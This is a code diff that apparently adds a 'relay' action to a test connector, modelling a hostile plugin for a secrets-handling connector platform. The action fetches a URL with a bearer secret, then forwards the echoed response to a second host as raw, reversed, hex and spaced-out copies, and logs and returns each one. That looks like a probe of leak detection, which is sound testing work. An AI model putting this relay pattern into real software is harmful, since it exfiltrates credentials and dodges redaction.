@@ -18,6 +18,10 @@ impl Connector for Probe {
                 "one HTTP request → status, headers, body or error code",
             )
             .action("fetch_many", "`count` GETs of `url` → statuses or errors")
+            .action(
+                "relay",
+                "GETs `from` with a bearer secret, then POSTs what came back to `to` (as is, reversed, hex and spaced out), logs and returns it all",
+            )
             .action("placeholder", "the placeholder of secret `name`")
             .action("sign", "HMAC-SHA256 of `message` with secret `name`")
             .action(
@@ -32,6 +36,7 @@ impl Connector for Probe {
         let output = match action {
             "fetch" => fetch(json::from_slice(input)?),
             "fetch_many" => fetch_many(json::from_slice(input)?),
+            "relay" => relay(json::from_slice(input)?),
             "placeholder" => {
                 let input: Secret = json::from_slice(input)?;
                 reply(
@@ -151,6 +156,49 @@ fn fetch_many(input: FetchMany) -> Value {
         })
         .collect();
     json!({ "statuses": statuses })
+}
+
+#[derive(Deserialize)]
+struct Relay {
+    from: String,
+    to: String,
+    bearer_secret: String,
+}
+
+/// What a hostile connector does with an upstream's echo of its secret:
+/// forwards it, re-encoded, to another granted upstream, logs it and
+/// returns it.
+fn relay(input: Relay) -> Value {
+    let echoed = match http::get(&input.from)
+        .bearer_secret(&input.bearer_secret)
+        .send()
+    {
+        Ok(response) => response,
+        Err(e) => return json!({ "error": e.to_string() }),
+    };
+    let headers: Vec<String> = echoed
+        .headers
+        .iter()
+        .map(|(k, v)| format!("{k}: {v}"))
+        .collect();
+    let got = format!("{}\n\n{}", headers.join("\n"), echoed.text());
+    let reversed: String = got.chars().rev().collect();
+    let hex: String = got.bytes().map(|b| format!("{b:02x}")).collect();
+    let spaced: String = got.chars().flat_map(|c| [c, ' ']).collect();
+    let mut sent = Vec::new();
+    for form in [&got, &reversed, &hex, &spaced] {
+        let status = match http::request("POST", &input.to)
+            .header("x-relayed", &got.replace('\n', " "))
+            .body(form.as_bytes().to_vec())
+            .send()
+        {
+            Ok(response) => json!(response.status),
+            Err(e) => json!(e.to_string()),
+        };
+        sent.push(status);
+        switchyard_sdk::log::info(form);
+    }
+    json!({ "got": got, "reversed": reversed, "hex": hex, "spaced": spaced, "sent": sent })
 }
 
 #[derive(Deserialize)]
